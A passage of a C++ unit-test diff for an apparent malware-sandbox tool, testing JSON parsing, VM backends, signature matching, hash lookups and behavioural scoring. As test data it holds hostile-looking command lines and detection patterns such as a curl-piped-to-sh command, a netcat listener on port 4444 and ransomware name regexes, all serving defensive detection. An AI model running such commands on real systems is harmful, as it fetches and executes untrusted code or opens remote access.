+    ASSERT_FALSE(RecoveryBackend::calls["crash0"].empty());
+    EXPECT_EQ(RecoveryBackend::calls["crash0"].front(), "revert");
+    std::ifstream in(root / "job/job.json");
+    std::stringstream text;
+    text << in.rdbuf();
+    Json record;
+    ASSERT_TRUE(parse_json(text.str(), record));
+    const Json *phases = record.find("phases");
+    ASSERT_NE(phases, nullptr);
+    EXPECT_EQ(phases->find("reattach"), nullptr);
+    journal.close();
+}
+
+TEST(SafeBoxTests, Metrics_PhaseHistograms) {
+    PhaseTimes phases("test-backend");
+    phases.add("boot", 0.3);
+    phases.add("ssh", 0.02);
+    phases.add("ssh", 0.03);
+    EXPECT_DOUBLE_EQ(phases.to_json().number_or("ssh", 0), 0.05);
+    EXPECT_GE(phases.lap("agent"), 0.0);
+
+    std::string text = global_metrics().exposition();
+    EXPECT_NE(text.find("safebox_phase_seconds_bucket{phase=\"boot\",backend=\"test-backend\",le=\"0.25\"} 0"),
+              std::string::npos);
+    EXPECT_NE(text.find("safebox_phase_seconds_bucket{phase=\"boot\",backend=\"test-backend\",le=\"0.5\"} 1"),
+              std::string::npos);
+    EXPECT_NE(text.find("safebox_phase_seconds_count{phase=\"ssh\",backend=\"test-backend\"} 2"),
+              std::string::npos);
+
+    MetricsServer server;
+    ASSERT_EQ(server.start("127.0.0.1", 0), 0);
+    int fd = socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in addr{};
+    addr.sin_family = AF_INET;
+    addr.sin_port = htons(static_cast<uint16_t>(server.port()));
+    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    ASSERT_EQ(connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
+    std::string request = "GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n";
+    write(fd, request.data(), request.size());
+    std::string response;
+    char buf[4096];
+    ssize_t n;
+    while ((n = read(fd, buf, sizeof(buf))) > 0) response.append(buf, static_cast<size_t>(n));
+    close(fd);
+    EXPECT_EQ(response.compare(0, 15, "HTTP/1.1 200 OK"), 0);
+    EXPECT_NE(response.find("# TYPE safebox_phase_seconds histogram"), std::string::npos);
+}
+
+TEST(SafeBoxTests, Json_RoundTrip) {
+    Json doc;
+    ASSERT_TRUE(parse_json(R"({"pid": 42, "cmd": ["sh", "-c"], "ok": true, "s": "a\"\u00e9", "x": null, "f": 0.5})", doc));
+    EXPECT_EQ(doc.number_or("pid", 0), 42);
+    EXPECT_EQ(doc.find("cmd")->items().size(), 2u);
+    EXPECT_TRUE(doc.find("ok")->as_bool());
+    EXPECT_EQ(doc.string_or("s", ""), "a\"\xc3\xa9");
+    EXPECT_EQ(dump_json(doc), "{\"pid\":42,\"cmd\":[\"sh\",\"-c\"],\"ok\":true,"
+                              "\"s\":\"a\\\"\xc3\xa9\",\"x\":null,\"f\":0.5}");
+}
+
+TEST(SafeBoxTests, Json_RejectsMalformed) {
+    Json doc;
+    std::string error;
+    EXPECT_FALSE(parse_json(R"({"a": 1,})", doc, &error));
+    EXPECT_FALSE(error.empty());
+    EXPECT_FALSE(parse_json("[1, 2] x", doc));
+    EXPECT_FALSE(parse_json(R"("unterminated)", doc));
+}
+
+TEST(SafeBoxTests, Json_StrictNumbers) {
+    Json doc;
+    ASSERT_TRUE(parse_json("[0, -0.5, 12, 1e3, 2.5E-2, -7e+1]", doc));
+    ASSERT_EQ(doc.items().size(), 6u);
+    EXPECT_DOUBLE_EQ(doc.items()[1].as_number(), -0.5);
+    EXPECT_DOUBLE_EQ(doc.items()[3].as_number(), 1000);
+    EXPECT_DOUBLE_EQ(doc.items()[4].as_number(), 0.025);
+    EXPECT_DOUBLE_EQ(doc.items()[5].as_number(), -70);
+    for (const char *bad : {"NaN", "-nan", "inf", "-Infinity", "0x10", "+1", "01", "-01", "1.", ".5", "1e",
+                            "1e+", "-", "[1.e3]"}) {
+        EXPECT_FALSE(parse_json(bad, doc)) << bad;
+    }
+}
+
+TEST(SafeBoxTests, Json_RejectsUnpairedSurrogates) {
+    Json doc;
+    ASSERT_TRUE(parse_json(R"("\ud83d\ude00")", doc));
+    EXPECT_EQ(doc.as_string(), "\xf0\x9f\x98\x80");
+    EXPECT_FALSE(parse_json(R"("\ud83d\u0041")", doc));
+    EXPECT_FALSE(parse_json(R"("\ud83d\ud83d")", doc));
+    EXPECT_FALSE(parse_json(R"("\ud83dx")", doc));
+    EXPECT_FALSE(parse_json(R"("\ude00")", doc));
+}
+
+TEST(SafeBoxTests, AgentReport_StreamedFromFile) {
+    const std::string text = R"JSON({
+      "start_time": "t0", "path": "/home/safebox/incoming/miner.bin",
+      "phases": {"boot": 1.5},
+      "events": [
+        {"time": "t1", "event": "process-created", "pid": 101, "cmdline": ["sh", "-c", "curl http://x"]},
+        {"time": "t3", "event": "process-exited", "returncode": 3}
+      ],
+      "processes": [
+        {"time": "t1", "pid": 100, "cpu_percent": 20.0, "memory": {"rss": 10485760, "vms": 20971520}},
+        {"time": "t2", "pid": 100, "cpu_percent": 95.5, "memory": {"rss": 52428800, "vms": 20971520}}
+      ],
+      "network": [
+        {"time": "t1", "connections": [{"family": "AF_INET", "type": "SOCK_STREAM", "laddr": "a",
+                                        "raddr": "b", "status": "SYN_SENT", "pid": 101}]},
+        {"time": "t2", "connections": [{"family": "AF_INET", "type": "SOCK_STREAM", "laddr": "a",
+                                        "raddr": "b", "status": "ESTABLISHED", "pid": 101},
+                                       {"family": "AF_INET", "type": "SOCK_STREAM", "laddr": "c",
+                                        "raddr": "()", "status": "LISTEN", "pid": null}]}
+      ],
+      "end_time": "t4"
+    })JSON";
+    AgentReport report;
+    ASSERT_TRUE(parse_agent_report(text, report));
+    EXPECT_EQ(report.path, "/home/safebox/incoming/miner.bin");
+    EXPECT_EQ(report.end_time, "t4");
+    ASSERT_EQ(report.events.size(), 2u);
+    EXPECT_EQ(report.events[0].cmdline, "sh -c curl http://x");
+    ASSERT_EQ(report.timeline.size(), 2u);
+    EXPECT_DOUBLE_EQ(report.timeline[1].rss_bytes, 52428800);
+    EXPECT_EQ(report.network_snapshots, 2u);
+    ASSERT_EQ(report.connections.size(), 2u);
+    EXPECT_EQ(report.connections[0].status, "ESTABLISHED");
+    EXPECT_EQ(report.connections[0].snapshots, 2);
+
+    ReportSummary summary = summarize_report(report);
+    EXPECT_DOUBLE_EQ(summary.peak_cpu_percent, 95.5);
+    EXPECT_DOUBLE_EQ(summary.peak_rss_mb, 50);
+    EXPECT_EQ(summary.processes, 2);
+    EXPECT_EQ(summary.remote_endpoints, 1u);
+    EXPECT_EQ(summary.outcome, "exited");
+    EXPECT_EQ(summary.returncode, 3);
+
+    // Same figures from the assembled document as from the file.
+    Json doc;
+    ASSERT_TRUE(parse_json(text, doc));
+    EXPECT_EQ(summarize_report(agent_report_from_json(doc)).processes, 2);
+
+    std::string error;
+    AgentReport broken;
+    EXPECT_FALSE(parse_agent_report("{\"events\": [", broken, &error));
+    EXPECT_FALSE(error.empty());
+}
+
+TEST(SafeBoxTests, BinaryReport_RoundTrips) {
+    const std::string text = R"JSON({"start_time":"2024-05-01T10:00:00.000100Z","path":"/home/safebox/incoming/a.bin",
+      "events":[{"time":"2024-05-01T10:00:00.500000Z","event":"process-created","pid":101,"cmdline":["sh","-c","id"]},
+                {"time":"2024-05-01T10:00:02Z","event":"process-exited","returncode":-9}],
+      "processes":[{"time":"2024-05-01T10:00:00.500000Z","pid":100,"cpu_percent":0.0,"memory":{"rss":10485760,"vms":20971520}},
+                   {"time":"2024-05-01T10:00:01.000250Z","pid":100,"cpu_percent":33.3,"memory":{"rss":10489856,"vms":20971520}}],
+      "network":[{"time":"2024-05-01T10:00:00.500000Z","connections":[
+                   {"fd":3,"family":"AddressFamily.AF_INET","type":"SocketKind.SOCK_STREAM","laddr":"addr(ip='10.0.0.2', port=4000)",
+                    "raddr":"addr(ip='1.2.3.4', port=80)","status":"SYN_SENT","pid":101},
+                   {"fd":-1,"family":"AddressFamily.AF_INET","type":"SocketKind.SOCK_DGRAM","laddr":"()","raddr":"()","status":"NONE","pid":null}]},
+                 {"time":"2024-05-01T10:00:01Z","connections":[
+                   {"fd":3,"family":"AddressFamily.AF_INET","type":"SocketKind.SOCK_STREAM","laddr":"addr(ip='10.0.0.2', port=4000)",
+                    "raddr":"addr(ip='1.2.3.4', port=80)","status":"ESTABLISHED","pid":101}]},
+                 {"time":"2024-05-01T10:00:01.500000Z","connections":[]}],
+      "end_time":"2024-05-01T10:00:02.000001Z"})JSON";
+    Json doc;
+    ASSERT_TRUE(parse_json(text, doc));
+    std::string encoded;
+    ASSERT_TRUE(encode_binary_report(doc, encoded));
+    EXPECT_TRUE(is_binary_report(encoded));
+    EXPECT_LT(encoded.size(), dump_json(doc).size() / 2);
+
+    Json decoded;
+    std::string error;
+    ASSERT_TRUE(decode_binary_report(encoded, decoded, &error)) << error;
+    EXPECT_EQ(dump_json(decoded), dump_json(doc));
+
+    AgentReport direct;
+    ASSERT_TRUE(decode_binary_report(encoded, direct));
+    AgentReport via_json = agent_report_from_json(doc);
+    EXPECT_EQ(dump_json(summary_json(summarize_report(direct))), dump_json(summary_json(summarize_report(via_json))));
+    ASSERT_EQ(direct.connections.size(), 2u);
+    EXPECT_EQ(direct.connections[0].status, "ESTABLISHED");
+    EXPECT_EQ(direct.connections[0].last_seen, "2024-05-01T10:00:01Z");
+
+    // Anything else at the top level rides along as JSON.
+    doc["phases"] = Json::object();
+    doc["phases"]["boot"] = Json(1.5);
+    ASSERT_TRUE(encode_binary_report(doc, encoded));
+    ASSERT_TRUE(decode_binary_report(encoded, decoded));
+    EXPECT_DOUBLE_EQ(decoded.find("phases")->number_or("boot", 0), 1.5);
+
+    EXPECT_FALSE(decode_binary_report(encoded.substr(0, encoded.size() - 3), decoded, &error));
+    Json odd = doc;
+    odd["events"] = Json::array();
+    odd["events"].push_back(Json::object());
+    EXPECT_FALSE(encode_binary_report(odd, encoded, &error));
+}
+
+TEST(SafeBoxTests, Verdict_MatchesPythonScoring) {
+    // MalwareDetector.analyze_resource_usage(95.0, 50.0, 25)
+    Verdict v = score_resource_usage(95, 50, 25);
+    EXPECT_EQ(v.score, 60);
+    EXPECT_EQ(v.threat_level, "suspicious");
+    ASSERT_EQ(v.detections.size(), 3u);
+    EXPECT_EQ(v.detections[0], "Excessive CPU usage: 95.0%");
+    EXPECT_EQ(v.detections[1], "Excessive process creation: 25");
+    EXPECT_EQ(v.detections[2], "Possible crypto mining activity");
+    EXPECT_EQ(score_resource_usage(85.5, 800, 1).detections[1], "Excessive memory usage: 800.0MB");
+    EXPECT_EQ(score_resource_usage(1, 1, 1).threat_level, "safe");
+}
+
+TEST(SafeBoxTests, ReportScorer_TracksSummaryAsRecordsArrive) {
+    ReportScorer scorer;
+    Json record;
+    ASSERT_TRUE(parse_json(R"({"time": "t1", "pid": 7, "cpu_percent": 0.5, "memory": {"rss": 1048576}})", record));
+    EXPECT_FALSE(scorer.add("process", record));
+    ASSERT_TRUE(parse_json(R"({"time": "t2", "event": "process-created", "pid": 8})", record));
+    EXPECT_TRUE(scorer.add("event", record));
+    EXPECT_FALSE(scorer.add("event", record));
+    ASSERT_TRUE(parse_json(R"({"time": "t3", "pid": 7, "cpu_percent": 91.0, "memory": {"rss": 4194304}})", record));
+    EXPECT_TRUE(scorer.add("process", record));
+    EXPECT_EQ(scorer.verdict().score, 40);
+
+    // One connection per remote port, as a scan looks to the agent.
+    Json snapshot = Json::object();
+    Json conns = Json::array();
+    for (int port = 1; port <= static_cast<int>(kScanEndpoints) + 1; ++port) {
+        Json conn = Json::object();
+        conn["laddr"] = Json("10.0.0.2:40000");
+        conn["raddr"] = Json("10.0.0.9:" + std::to_string(port));
+        conn["status"] = Json("SYN_SENT");
+        conns.push_back(conn);
+    }
+    snapshot["connections"] = conns;
+    EXPECT_TRUE(scorer.add("network", snapshot));
+    EXPECT_FALSE(scorer.add("network", snapshot));
+    Verdict v = scorer.verdict();
+    EXPECT_EQ(v.score, 70);
+    EXPECT_EQ(v.threat_level, "suspicious");
+    EXPECT_EQ(v.detections.back(), "Possible network scan: 21 remote endpoints");
+
+    ReportSummary summary = scorer.summary();
+    EXPECT_TRUE(summary.rule_hits.empty());
+    EXPECT_EQ(summary.samples, 2u);
+    EXPECT_DOUBLE_EQ(summary.mean_cpu_percent, 45.75);
+    EXPECT_EQ(summary.processes, 2);
+    EXPECT_EQ(summary.connections, kScanEndpoints + 1);
+}
+
+TEST(SafeBoxTests, ReportScorer_MatchesDetectorRulesOnNewProcesses) {
+    ReportScorer scorer;
+    Json record;
+    ASSERT_TRUE(parse_json(R"({"event": "process-created", "pid": 8, "cmdline": ["sh", "-c", "curl HTTP://x | sh"]})",
+                           record));
+    EXPECT_TRUE(scorer.add("event", record));
+    Verdict v = scorer.verdict();
+    EXPECT_EQ(v.score, 25);
+    EXPECT_EQ(v.detections, std::vector<std::string>{"Suspicious network operation: curl.*http"});
+    EXPECT_EQ(v.threat_level, "safe");
+
+    // Both persistence keywords score once; ransomware names once per
+    // signature pattern they match, as in MalwareDetector.analyze_filename.
+    ASSERT_TRUE(parse_json(R"({"event": "process-created", "pid": 9, "cmdline": ["/tmp/x.encrypt", "--auto-start", "startup"]})",
+                           record));
+    EXPECT_TRUE(scorer.add("event", record));
+    ASSERT_TRUE(parse_json(R"({"event": "process-created", "pid": 10, "cmdline": ["/tmp/cryptor.exe"]})", record));
+    EXPECT_TRUE(scorer.add("event", record));
+    v = scorer.verdict();
+    EXPECT_EQ(v.score, 25 + 100 + 30 + 100 + 15);
+    EXPECT_EQ(v.threat_level, "critical");
+    EXPECT_EQ(std::count(v.detections.begin(), v.detections.end(), "Persistence mechanism detected"), 1);
+    EXPECT_EQ(std::count(v.detections.begin(), v.detections.end(), "Signature match: Generic Ransomware"), 2);
+    EXPECT_EQ(summarize_report(AgentReport()).rule_hits.size(), 0u);
+}
+
+TEST(SafeBoxTests, ReportAssembler_SplitChunks) {
+    ReportAssembler assembler;
+    int process_records = 0;
+    assembler.on_record([&](const std::string &type, const Json &) {
+        if (type == "process") ++process_records;
+    });
+    std::string stream =
+        R"({"type":"start","time":"t0","path":"/tmp/x"})" "\n"
+        R"({"type":"process","time":"t1","pid":7,"cpu_percent":1.5})" "\n"
+        "garbage\n"
+        R"({"type":"event","time":"t2","event":"process-exited","returncode":0})" "\n"
+        R"({"type":"end","time":"t3"})";
+    // Deliver one byte at a time to exercise line reassembly.
+    for (char c : stream) assembler.feed(&c, 1);
+    EXPECT_FALSE(assembler.complete());
+    assembler.finish();
+
+    EXPECT_TRUE(assembler.complete());
+    EXPECT_EQ(assembler.records(), 4u);
+    EXPECT_EQ(assembler.malformed(), 1u);
+    EXPECT_EQ(process_records, 1);
+    const Json &report = assembler.report();
+    EXPECT_EQ(report.string_or("path", ""), "/tmp/x");
+    EXPECT_EQ(report.string_or("end_time", ""), "t3");
+    ASSERT_EQ(report.find("processes")->items().size(), 1u);
+    EXPECT_EQ(report.find("processes")->items()[0].find("type"), nullptr);
+    EXPECT_EQ(report.find("events")->items()[0].string_or("event", ""), "process-exited");
+}
+
+TEST(SafeBoxTests, LinkedClone_OverlayPath) {
+    CloneSpec spec{"golden", "golden-clone-0", "/images/golden.qcow2", "/var/lib/safebox/overlays", 0};
+    EXPECT_EQ(overlay_path(spec), "/var/lib/safebox/overlays/golden-clone-0.qcow2");
+}
+
+TEST(SafeBoxTests, Backend_UnknownName) {
+    EXPECT_EQ(make_backend("invalid"), nullptr);
+    EXPECT_EQ(find_backend("invalid"), nullptr);
+    EXPECT_EQ(find_backend("kvm"), find_backend("kvm"));
+}
+
+TEST(SafeBoxTests, Backend_Capabilities) {
+    EXPECT_TRUE(make_backend("kvm-hot")->hot());
+    EXPECT_TRUE(make_backend("virtualbox-hot")->hot());
+    EXPECT_TRUE(make_backend("firecracker-hot")->hot());
+    EXPECT_FALSE(make_backend("kvm")->hot());
+    EXPECT_NE(start_vm("kvm-hot", "test-vm"), 1);
+    EXPECT_EQ(make_backend("kvm")->snapshot("test-vm", open_ssh_session("user@127.0.0.1", 2222)), 1);
+
+    CloneSpec spec{"golden", "golden-clone-0", "", "", 2300};
+    EXPECT_EQ(make_backend("firecracker")->clone(spec), 1);
+    EXPECT_EQ(make_backend("virtualbox")->guest_address("golden-clone-0"), "127.0.0.1");
+}
+
+TEST(SafeBoxTests, Backend_CaptureWarmsAgentFirst) {
+    struct HotBackend : Backend {
+        std::vector<std::string> calls;
+        int start(const std::string &) override { return 0; }
+        int revert(const std::string &) override { return 0; }
+        bool hot() const override { return true; }
+        CommandResult exec(const SshSession &, const std::string &cmd, const ExecOptions &) override {
+            calls.push_back(cmd);
+            return {};
+        }
+        int snapshot(const std::string &vm_name, const SshSession &) override {
+            calls.push_back("snapshot " + vm_name);
+            return 0;
+        }
+    } backend;
+    EXPECT_EQ(capture_hot_snapshot(backend, "vm0", SshSession{}), 0);
+    EXPECT_EQ(backend.calls, (std::vector<std::string>{"python3 -c 'import psutil, json, subprocess'", "snapshot vm0"}));
+    EXPECT_EQ(capture_hot_snapshot(*make_backend("kvm"), "test-vm", SshSession{}), 1);
+}
+
+TEST(SafeBoxTests, Backend_Registered) {
+    struct NoopBackend : Backend {
+        int start(const std::string &) override { return 0; }
+        int revert(const std::string &) override { return 0; }
+        Argv guest_command(const SshSession &, const std::string &) override { return {"true"}; }
+    };
+    register_backend("noop", [] { return std::make_unique<NoopBackend>(); });
+    ASSERT_NE(find_backend("noop"), nullptr);
+    EXPECT_EQ(start_vm("noop", "test-vm"), 0);
+    EXPECT_EQ(find_backend("noop")->exec(open_ssh_session("user@127.0.0.1", 2222), "uname").return_code, 0);
+}
+
+TEST(SafeBoxTests, Firecracker_UnreachableApi) {
+    EXPECT_EQ(firecracker_api("/nonexistent/api.sock", "PUT", "/actions", "{}"), -1);
+    FirecrackerBackend fc(false, "/nonexistent");
+    EXPECT_NE(fc.revert("test-vm"), 0);
+    EXPECT_EQ(fc.guest_address("test-vm"), "");
+}
+
+TEST(SafeBoxTests, Firecracker_RevertsStoppedVm) {
+    namespace fs = std::filesystem;
+    TempDir state("fc-state");
+    fs::create_directories(state.path() / "test-vm");
+    FirecrackerBackend fc(true, state.path().string());
+    // No pidfile: nothing is running, which is as reverted as it gets.
+    EXPECT_EQ(fc.revert("test-vm"), 0);
+
+    // A pidfile left over from before a host restart, its pid now reused by
+    // something that is not this VM's firecracker.
+    fs::path pidfile = state.path() / "test-vm" / "firecracker.pid";
+    std::ofstream(pidfile) << getpid() << std::endl;
+    EXPECT_EQ(fc.revert("test-vm"), 0);
+    EXPECT_FALSE(fs::exists(pidfile));
+    EXPECT_EQ(kill(getpid(), 0), 0);
+}
+
+TEST(SafeBoxTests, Backend_InjectThroughShare) {
+    namespace fs = std::filesystem;
+    TempDir root_dir("share-test");
+    const fs::path &root = root_dir.path();
+    fs::create_directories(root / "test-vm");
+    fs::path sample = root / "sample.bin";
+    std::ofstream(sample) << "MZ";
+    fs::permissions(sample, fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read |
+                                fs::perms::others_read);
+    std::ofstream(root / "test-vm" / "stale.bin") << "old";
+
+    std::unique_ptr<Backend> kvm = make_backend("kvm");
+    kvm->set_share_root(root.string());
+    std::string remote = "/home/safebox/incoming/sample.bin";
+    ASSERT_EQ(kvm->inject("test-vm", open_ssh_session("user@127.0.0.1", 2222), sample.string(), remote), 0);
+    EXPECT_EQ(remote, "/mnt/safebox/sample.bin");
+    // A private copy the guest can execute from its read-only mount; the
+    // submitted 0644 file is left as it was.
+    fs::path shared = root / "test-vm" / "sample.bin";
+    EXPECT_FALSE(fs::equivalent(sample, shared));
+    EXPECT_NE(fs::status(shared).permissions() & fs::perms::others_exec, fs::perms::none);
+    EXPECT_EQ(fs::status(sample).permissions() & fs::perms::owner_exec, fs::perms::none);
+    std::ifstream in(shared);
+    std::string content((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
+    EXPECT_EQ(content, "MZ");
+    EXPECT_FALSE(fs::exists(root / "test-vm" / "stale.bin"));
+
+    kvm->release("test-vm");
+    EXPECT_TRUE(fs::is_empty(root / "test-vm"));
+    EXPECT_TRUE(fs::exists(sample));
+}
+
+TEST(SafeBoxTests, Sha256_KnownVectors) {
+    EXPECT_EQ(sha256_hex(""), "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
+    EXPECT_EQ(sha256_hex("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
+    EXPECT_EQ(sha256_hex("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
+              "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
+
+    // Split updates must agree with one-shot hashing.
+    std::string data(1000, 'x');
+    Sha256 h;
+    h.update(data.data(), 3);
+    h.update(data.data() + 3, 100);
+    h.update(data.data() + 103, data.size() - 103);
+    EXPECT_EQ(h.hex_digest(), sha256_hex(data));
+
+    std::string path = (std::filesystem::temp_directory_path() /
+                        ("safebox-sha-" + std::to_string(getpid()))).string();
+    std::ofstream(path) << data;
+    std::string hex;
+    ASSERT_TRUE(sha256_file(path, hex));
+    EXPECT_EQ(hex, sha256_hex(data));
+    std::filesystem::remove(path);
+    EXPECT_FALSE(sha256_file(path, hex));
+}
+
+TEST(SafeBoxTests, Matcher_SignatureSubset) {
+    Matcher m(true);
+    ASSERT_TRUE(m.add(R"(.*wanna.*cry.*)", 0));
+    ASSERT_TRUE(m.add(R"(.*rat\.exe.*)", 1));
+    ASSERT_TRUE(m.add(R"(^svchost\.exe$)", 2));
+    ASSERT_TRUE(m.add(R"(cmd.exe.*powershell)", 3));
+    ASSERT_TRUE(m.add(R"(.*\.dll$)", 4));
+    ASSERT_TRUE(m.add(R"(nc.*-l.*-p)", 5));
+    ASSERT_TRUE(m.add(R"(q.*q)", 6));
+    std::string error;
+    EXPECT_FALSE(m.add(R"([^a-z])", 7, &error));
+    EXPECT_NE(error.find("unsupported"), std::string::npos);
+    EXPECT_FALSE(m.add(R"(\d+)", 7));
+    EXPECT_TRUE(m.counts_bytes(3));
+    EXPECT_FALSE(m.counts_bytes(0));
+    m.compile();
+
+    EXPECT_EQ(m.scan("WannaCry.exe"), (std::vector<int>{0}));
+    EXPECT_EQ(m.scan("wanna-cry"), (std::vector<int>{0}));
+    EXPECT_EQ(m.scan("cry wanna"), (std::vector<int>{}));
+    EXPECT_EQ(m.scan("ratxexe"), (std::vector<int>{}));
+    EXPECT_EQ(m.scan("svchost.exe"), (std::vector<int>{2}));
+    EXPECT_EQ(m.scan("xsvchost.exe"), (std::vector<int>{}));
+    EXPECT_EQ(m.scan("cmd_exe /c powershell"), (std::vector<int>{3}));
+    EXPECT_EQ(m.scan("cmdexe powershell"), (std::vector<int>{}));
+    EXPECT_EQ(m.scan("x.dll y.dll"), (std::vector<int>{4}));
+    EXPECT_EQ(m.scan("x.dll y"), (std::vector<int>{}));
+    EXPECT_EQ(m.scan("nc -l -p 4444"), (std::vector<int>{5}));
+    EXPECT_EQ(m.scan("nc -p -l"), (std::vector<int>{}));
+    EXPECT_EQ(m.scan("q"), (std::vector<int>{}));
+    EXPECT_EQ(m.scan("bq.q"), (std::vector<int>{6}));
+    // Lines are matched separately.
+    EXPECT_EQ(m.scan("wanna\ncry"), (std::vector<int>{}));
+    EXPECT_EQ(m.scan("junk\nsvchost.exe\n"), (std::vector<int>{2}));
+
+    // Feeding in pieces finds matches across the piece boundaries.
+    std::string text = std::string(1000, 'z') + " cmd.exe -c 'powershell' rat.exe";
+    Matcher::Scanner scanner(m);
+    for (size_t i = 0; i < text.size(); i += 7) scanner.feed(text.data() + i, std::min<size_t>(7, text.size() - i));
+    EXPECT_EQ(scanner.finish(), (std::vector<int>{1, 3}));
+    EXPECT_EQ(m.scan(text), (std::vector<int>{1, 3}));
+}
+
+TEST(SafeBoxTests, ResultCache_HitSkipsVm) {
+    namespace fs = std::filesystem;
+    TempDir root_dir("cache-test");
+    const fs::path &root = root_dir.path();
+    std::ofstream(root / "sample.bin") << "MZ payload";
+    std::ofstream(root / "report.json") << "{\"end_time\": \"t\"}";
+    std::string sha = sha256_hex("MZ payload");
+
+    ResultCache cache((root / "cache").string());
+    std::string fp = analysis_fingerprint("kvm", 120);
+    EXPECT_EQ(cache.fetch(sha, fp, (root / "out").string()), "");
+    ASSERT_EQ(cache.store(sha, fp, (root / "report.json").string()), 0);
+    EXPECT_NE(cache.fetch(sha, fp, (root / "out").string()), "");
+    EXPECT_EQ(cache.fetch(sha, analysis_fingerprint("kvm", 60), (root / "out").string()), "");
+
+    // No VMs at all: the job can only finish from the cache.
+    PoolOptions options;
+    options.cache = &cache;
+    VMPool pool({}, options);
+    Job job{(root / "sample.bin").string(), (root / "job").string()};
+    job.backend = "kvm";
+    pool.submit(job);
+    pool.drain();
+    EXPECT_EQ(pool.completed(), 1);
+    EXPECT_EQ(pool.failed(), 0);
+    EXPECT_TRUE(fs::exists(root / "job" / "job.json"));
+}
+
+TEST(SafeBoxTests, HashIndex_KnownSampleSkipsVm) {
+    namespace fs = std::filesystem;
+    TempDir root_dir("hashidx-test");
+    const fs::path &root = root_dir.path();
+    std::ofstream(root / "sample.bin") << "MZ known";
+    std::string sha = sha256_hex("MZ known");
+    std::string upper = sha;
+    for (char &c : upper) c = char(std::toupper(uint8_t(c)));
+
+    std::istringstream list("# feed\n" + sha256_hex("a") + "\n" + upper + "  Emotet loader \n" +
+                            sha256_hex("b") + " Emotet loader\n" + sha + " dup\n");
+    size_t count = 0;
+    std::string index_path = (root / "known.sbhi").string();
+    ASSERT_TRUE(build_hash_index(list, index_path, &count));
+    EXPECT_EQ(count, 3u);
+    std::istringstream bad("not-a-hash\n");
+    std::string error;
+    EXPECT_FALSE(build_hash_index(bad, index_path, nullptr, &error));
+    EXPECT_NE(error.find("line 1"), std::string::npos);
+
+    HashIndex index;
+    ASSERT_TRUE(index.open(index_path, &error)) << error;
+    EXPECT_EQ(index.size(), 3u);
+    std::string label;
+    EXPECT_TRUE(index.lookup(sha, &label));
+    EXPECT_EQ(label, "Emotet loader");
+    EXPECT_TRUE(index.lookup(sha256_hex("a"), &label));
+    EXPECT_EQ(label, "");
+    EXPECT_FALSE(index.lookup(sha256_hex("c")));
+    EXPECT_FALSE(index.lookup("abc"));
+    std::ofstream(root / "short.sbhi") << "SBHI";
+    HashIndex broken;
+    EXPECT_FALSE(broken.open((root / "short.sbhi").string()));
+
+    // No VMs at all: the job can only finish from the index.
+    PoolOptions options;
+    options.hash_index = &index;
+    VMPool pool({}, options);
+    Job job{(root / "sample.bin").string(), (root / "job").string()};
+    pool.submit(job);
+    pool.drain();
+    EXPECT_EQ(pool.completed(), 1);
+    std::ifstream record(root / "job" / "job.json");
+    std::string text((std::istreambuf_iterator<char>(record)), std::istreambuf_iterator<char>());
+    EXPECT_NE(text.find("Hash match: Emotet loader"), std::string::npos);
+    EXPECT_NE(text.find(sha), std::string::npos);
+}
+
+TEST(SafeBoxTests, Triage_TypesEntropyAndStrings) {
+    namespace fs = std::filesystem;
+    TempDir root_dir("triage-test");
+    const fs::path &root = root_dir.path();
+    // Strings straddle the 64 KiB block boundary and the SSE2 16-byte steps.
+    std::string elf("\x7f" "ELF\x02\x01\x01", 7);
+    elf.resize(65530, '\0');
+    elf += "connect_to_c2_server";
+    elf.append(40, '\x01');
+    elf += "tiny";
+    elf.append(3, '\0');
+    elf += "/etc/passwd";
+    std::ofstream(root / "tool", std::ios::binary) << elf;
+
+    TriageResult r;
+    ASSERT_TRUE(triage_file((root / "tool").string(), TriageOptions(), r));
+    EXPECT_EQ(r.size, elf.size());
+    EXPECT_EQ(r.sha256, sha256_hex(elf));
+    EXPECT_EQ(r.file_type, "elf");
+    EXPECT_EQ(r.decision, "dynamic");
+    EXPECT_EQ(r.strings, (std::vector<std::string>{"connect_to_c2_server", "/etc/passwd"}));
+    EXPECT_EQ(r.histogram[0], uint64_t(std::count(elf.begin(), elf.end(), '\0')));
+
+    std::ofstream(root / "run.sh") << "#!/bin/sh -e \necho hello\n";
+    ASSERT_TRUE(triage_file((root / "run.sh").string(), TriageOptions(), r));
+    EXPECT_EQ(r.file_type, "script");
+    EXPECT_EQ(r.interpreter, "/bin/sh -e");
+    EXPECT_EQ(r.decision, "dynamic");
+
+    std::string pe("MZ", 2);
+    pe.resize(0x80, '\0');
+    pe[0x3c] = '\x80';
+    pe += std::string("PE\0\0", 4);
+    std::mt19937 rng(7);
+    for (int i = 0; i < 8192; ++i) pe.push_back(char(rng()));
+    std::ofstream(root / "setup.exe", std::ios::binary) << pe;
+    ASSERT_TRUE(triage_file((root / "setup.exe").string(), TriageOptions(), r));
+    EXPECT_EQ(r.file_type, "pe");
+    EXPECT_GT(r.entropy, 7.5);
+    EXPECT_EQ(r.decision, "inert");
+    EXPECT_EQ(r.verdict.score, 35);
+
+    // An inert sample finishes from triage alone, without any VM.
+    std::ofstream(root / "notes.txt") << "just some notes about the quarterly numbers\n";
+    PoolOptions options;
+    options.static_triage = true;
+    VMPool pool({}, options);
+    Job job{(root / "notes.txt").string(), (root / "job").string()};
+    pool.submit(job);
+    pool.drain();
+    EXPECT_EQ(pool.completed(), 1);
+    std::ifstream record(root / "job" / "job.json");
+    std::string text((std::istreambuf_iterator<char>(record)), std::istreambuf_iterator<char>());
+    EXPECT_NE(text.find("\"triage\""), std::string::npos);
+    EXPECT_NE(text.find("Not executable in the guest: text"), std::string::npos);
+    EXPECT_FALSE(triage_file((root / "missing").string(), TriageOptions(), r));
+}
+
+TEST(SafeBoxTests, Collector_ProcfsAndSockets) {
+    ProcStat st;
+    ASSERT_TRUE(read_proc_stat(getpid(), st));
